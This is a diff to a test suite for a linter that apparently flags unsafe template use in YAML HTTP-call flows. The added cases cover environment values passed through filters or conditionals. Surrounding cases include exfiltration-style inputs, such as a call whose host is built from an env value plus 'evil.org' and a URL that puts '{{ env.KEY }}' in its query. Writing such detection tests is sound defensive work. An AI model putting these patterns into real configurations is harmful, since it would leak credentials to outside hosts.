@@ -180,6 +180,18 @@ describe('templates, conditions, addresses, patterns', () => {
     ],
     [flow('  - call: GET https://a.{{ now }}/x'), 'flows/a.yml:3:11  "https://a.{{ now }}/x": the host'],
     [flow('  - call: GET {{ env.A }}{{ now }}'), 'flows/a.yml:3:11  "{{ env.A }}{{ now }}": the host'],
+    [
+      flow('  - call: GET https://a/\n    headers: { A: "{{ env.KEY | upcase }}" }'),
+      'flows/a.yml:4:19  "{{ env.KEY | upcase }}": env is filled in as it is',
+    ],
+    [
+      flow('  - call: GET https://a/\n    headers: { A: "{% if env.KEY %}x{% endif %}" }'),
+      'flows/a.yml:4:19  "{% if env.KEY %}x{% endif %}": env is filled in as it is',
+    ],
+    [
+      flow('  - call: GET https://a/\n    body: { a: "{{ now | append: env.KEY }}" }'),
+      'flows/a.yml:4:16  "{{ now | append: env.KEY }}": env is filled in as it is',
+    ],
     [flow('  - call: GET {{ env.A }}.evil.org/'), 'flows/a.yml:3:11  "{{ env.A }}.evil.org/": the host'],
     [
       flow('  - call: GET https://a/?k={{ env.KEY }}'),
